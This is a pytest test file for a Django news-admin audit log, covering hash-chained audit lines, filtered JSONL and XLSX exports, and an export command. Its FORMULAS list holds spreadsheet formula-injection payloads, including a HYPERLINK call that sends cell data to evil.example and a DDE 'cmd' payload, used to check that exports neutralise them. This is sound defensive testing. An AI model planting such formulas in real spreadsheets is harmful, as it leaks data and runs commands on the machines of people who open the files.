"""The audit at the desk: its list, its detail, its export, which proves itself elsewhere."""

import hashlib
import io
import json
import zipfile
from datetime import datetime

import openpyxl
import pytest
from django.contrib.auth.models import Group
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from chamber.models import User
from series.actions.audit.chain import record
from series.actions.reports.exports import write_jsonl
from series.actions.reports.xlsx import Worksheet, write_workbook
from series.models import AuditLine, ColumnRole, Result
from tests.helpers import making, people

pytestmark = pytest.mark.django_db
LIST = reverse("admin:series_auditline_changelist")
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1)',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    " =1+1",
    "　=1+1",
    "#REF!",
    "《常商论坛》",
]


def fetched(client, name, **query):
    answer = client.get(reverse(f"admin:{name}"), query)
    assert answer.status_code == 200
    return answer, b"".join(answer.streaming_content)


def sheet_rows(data):
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [[cell.value for cell in row] for row in book.worksheets[0].iter_rows()]


def verified(lines, previous=""):
    """The numbers of the lines whose seal does not hold: all that somebody else needs to know."""
    wrong = []
    for text in lines:
        line = json.loads(text)
        sealed = line["sealed"]
        written = json.dumps(sealed, ensure_ascii=False, sort_keys=True, separators=(",", ":"))
        seal = hashlib.sha256(written.encode()).hexdigest()
        if seal != line["seal"] or sealed["previous"] != previous:
            wrong.append(sealed["number"])
        previous = line["seal"]
    return wrong


# The list


def test_the_list_is_filtered_by_everything_that_is_asked(client, chief):
    one, other = making.article("published"), making.article(headline="另一篇")
    record("登录", by=None, object="editor", result=Result.FAILED)
    client.force_login(chief)

    def numbers(**query):
        page = client.get(LIST, query)
        assert page.status_code == 200, query
        return {line.number for line in page.context["cl"].result_list}

    every = numbers()
    assert every == set(AuditLine.objects.values_list("number", flat=True))
    for query, rows in (
        ({"entry__exact": other.pk}, AuditLine.objects.filter(entry=other)),
        ({"actor__id__exact": chief.pk}, AuditLine.objects.filter(actor=chief)),
        ({"verb": "建稿"}, AuditLine.objects.filter(verb="建稿")),
        ({"result__exact": "failed"}, AuditLine.objects.filter(result="failed")),
        ({"days": "7"}, AuditLine.objects.all()),
        ({"address": "192.0.2.1"}, AuditLine.objects.none()),
        ({"q": "另一篇"}, AuditLine.objects.filter(entry=other)),
    ):
        assert numbers(**query) == set(rows.values_list("number", flat=True)), query
    assert one.headline in client.get(LIST).text


def test_the_detail_says_whether_the_line_follows_the_one_before(client, chief):
    making.article()
    record("试写", by=chief, 原因="核对")
    line = AuditLine.objects.latest("pk")
    client.force_login(chief)
    url = reverse("admin:series_auditline_change", args=[line.pk])
    assert "与上一条相接" in client.get(url).text
    assert line.seal in client.get(url).text
    with connection.cursor() as cursor:
        cursor.execute("UPDATE series_auditline SET object = 'x' WHERE id = %s", [line.pk])
    assert "与上一条接不上" in client.get(url).text


def test_a_page_of_lines_costs_the_same_with_one_and_three(client, chief):
    client.force_login(chief)
    counts = []
    for _ in (1, 3):
        making.article()
        with CaptureQueriesContext(connection) as asked:
            client.get(LIST)
        counts.append(len(asked))
    assert counts[0] == counts[1]


# The export


def test_the_exported_chain_is_recomputed_elsewhere(client, chief):
    making.article("published", headline="“两个健康”先行区")
    client.force_login(chief)
    _, data = fetched(client, "series_auditline_jsonl")
    lines = data.decode().splitlines()
    assert len(lines) > 5
    assert verified(lines) == []
    line = AuditLine.objects.latest("pk")
    assert (line.verb, line.object, line.actor) == ("导出", "审计记录", chief)
    assert (line.detail["form"], line.detail["rows"]) == ("jsonl", len(lines))


@pytest.mark.parametrize("key", ["verb", "at", "actor", "detail", "address", "number"])
def test_control_any_changed_field_breaks_the_exported_chain(client, chief, key):
    making.article("published")
    client.force_login(chief)
    lines = fetched(client, "series_auditline_jsonl")[1].decode().splitlines()
    third = json.loads(lines[2])
    third["sealed"][key] = "改过"
    assert verified([*lines[:2], json.dumps(third), *lines[3:]]) != []
    assert verified([*lines[:2], *lines[3:]]) != []


def test_a_filtered_export_holds_those_lines_and_says_the_filter(client, chief):
    making.article("published")
    client.force_login(chief)
    _, data = fetched(client, "series_auditline_jsonl", verb="发布")
    lines = [json.loads(text) for text in data.decode().splitlines()]
    assert [line["sealed"]["verb"] for line in lines] == ["发布"]
    before = AuditLine.objects.get(number=lines[0]["sealed"]["number"] - 1)
    assert lines[0]["sealed"]["previous"] == before.seal
    assert AuditLine.objects.latest("pk").detail["chosen"] == {"verb": "发布"}


def test_the_workbook_names_its_columns_and_has_true_dates(client, chief):
    making.article("published")
    client.force_login(chief)
    answer, data = fetched(client, "series_auditline_xlsx")
    head, *rows = sheet_rows(data)
    assert head[:6] == ["编号", "时间", "人员", "账号", "动作", "结果"]
    assert len(rows) == AuditLine.objects.count() - 1
    assert all(isinstance(row[1], datetime) for row in rows)
    assert "no-store" in answer["Cache-Control"]
    assert ".xlsx" in answer["Content-Disposition"]


def test_an_export_with_a_filter_that_is_none_leads_back(client, chief):
    client.force_login(chief)
    answer = client.get(reverse("admin:series_auditline_xlsx"), {"entry__exact": "x"})
    assert answer.status_code == 302


def test_the_list_of_entries_is_exported_without_their_texts(client, editor):
    making.article("draft", headline="=1+1", body="<p>这一段不能出现在表里。</p>")
    making.article("published")
    client.force_login(editor)
    _, data = fetched(client, "series_article_xlsx")
    head, *rows = sheet_rows(data)
    at = head.index("标题")
    assert {row[at] for row in rows} == {"=1+1", "民营企业座谈会召开"}
    assert {row[head.index("进度")] for row in rows} == {"草稿", "已发布"}
    unpacked = zipfile.ZipFile(io.BytesIO(data))
    assert not [
        n for n in unpacked.namelist() if "这一段" in unpacked.read(n).decode("utf-8", "replace")
    ]
    line = AuditLine.objects.latest("pk")
    assert (line.verb, line.object, line.detail["rows"]) == ("导出", "文章", 2)
    _, data = fetched(client, "series_article_xlsx", visibility__exact="public")
    assert len(sheet_rows(data)) == 2


def test_an_editor_of_one_column_exports_that_column_alone(client):
    own, other = making.column("甲栏"), making.column("乙栏")
    making.article(column=own, headline="甲稿")
    making.article(column=other, headline="乙稿")
    person = User.objects.create_user("partial", is_staff=True)
    role = Group.objects.get(name=people.EDITOR)
    ColumnRole.objects.create(user=person, role=role, column=own)
    client.force_login(person)
    answer = client.get(reverse("admin:series_article_xlsx"))
    if answer.status_code == 200:
        rows = sheet_rows(b"".join(answer.streaming_content))
        at = rows[0].index("标题")
        assert [row[at] for row in rows[1:]] == ["甲稿"]
    assert client.get(reverse("admin:series_auditline_xlsx")).status_code == 403


def test_only_a_get_exports(client, chief):
    client.force_login(chief)
    assert client.post(reverse("admin:series_auditline_xlsx")).status_code == 405


# Formulas


def book_of(values):
    file = io.BytesIO()
    write_workbook([Worksheet("表", ("甲",), [(value,) for value in values])], file)
    return file.getvalue()


def test_no_cell_is_a_formula_whatever_it_begins_with():
    data = book_of(FORMULAS)
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert {cell.data_type for cell in cells} == {"s"}
    assert [cell.value.strip() for cell in cells] == [text.strip() for text in FORMULAS]
    marked = [cell.quotePrefix for cell in cells]
    assert marked == [True] * 14 + [False] * 2
    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
    assert "<f " not in xml


def test_control_written_plainly_the_same_texts_are_formulas():
    from openpyxl import Workbook

    book, file = Workbook(write_only=True), io.BytesIO()
    sheet = book.create_sheet()
    for value in FORMULAS:
        sheet.append([value])
    book.save(file)
    xml = zipfile.ZipFile(file).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" in xml


def test_controls_signs_and_length_do_not_break_a_book():
    rows = sheet_rows(book_of(["a\0b\x0bc", "字" * 40_000, "\ufffe"]))
    assert rows[1] == ["abc"]
    assert len(rows[2][0]) == 32_767


def test_a_book_that_is_too_long_says_so(monkeypatch):
    monkeypatch.setattr("series.actions.reports.xlsx.MOST_ROWS", 3)
    rows = sheet_rows(book_of(range(10)))
    assert [row[0] for row in rows] == ["甲", 0, 1, 2, "只导出前 3 行，请缩小范围后再导出"]


def test_an_export_of_lines_ends_where_it_must(chief):
    for _ in range(3):
        record("试", by=chief)
    file = io.BytesIO()
    assert write_jsonl(AuditLine.objects.all(), file, most=2) == 2
    assert len(file.getvalue().splitlines()) == 2


# The command


def test_the_command_exports_a_span_and_leaves_a_line(tmp_path, capsys):
    making.article("published")
    file = tmp_path / "audit.jsonl"
    call_command("export_audit", file)
    lines = file.read_text(encoding="utf-8").splitlines()
    assert verified(lines) == []
    assert f"已导出 {len(lines)} 行" in capsys.readouterr().out
    assert file.stat().st_mode & 0o077 == 0
    line = AuditLine.objects.latest("pk")
    assert (line.verb, line.channel, line.detail["rows"]) == ("导出", "export_audit", len(lines))
    call_command("export_audit", tmp_path / "none.xlsx", "--to", "2001-01-01")
    assert len(sheet_rows((tmp_path / "none.xlsx").read_bytes())) == 1


@pytest.mark.parametrize(
    ("given", "sentence"),
    [
        (["a.csv"], "以 .jsonl 或 .xlsx 结尾"),
        (["a.jsonl", "--from", "昨天"], "日期“昨天”无法识别"),
        (["a.jsonl", "--from", "2026-02-30"], "日期“2026-02-30”无法识别"),
        (["none/a.jsonl"], "写不了"),
    ],
)
def test_the_command_says_what_is_wrong(tmp_path, given, sentence):
    with pytest.raises(CommandError, match=sentence):
        call_command("export_audit", tmp_path / given[0], *given[1:])


def test_the_command_overwrites_nothing(tmp_path):
    file = tmp_path / "a.jsonl"
    file.write_text("旧文件")
    with pytest.raises(CommandError, match="已存在"):
        call_command("export_audit", file)
    assert file.read_text() == "旧文件"


def test_nothing_in_the_program_deletes_a_line():
    making.article()
    with pytest.raises(RuntimeError, match="不能删除"):
        AuditLine.objects.all().delete()
    with pytest.raises(RuntimeError, match="不能删除"):
        AuditLine.objects.first().delete()
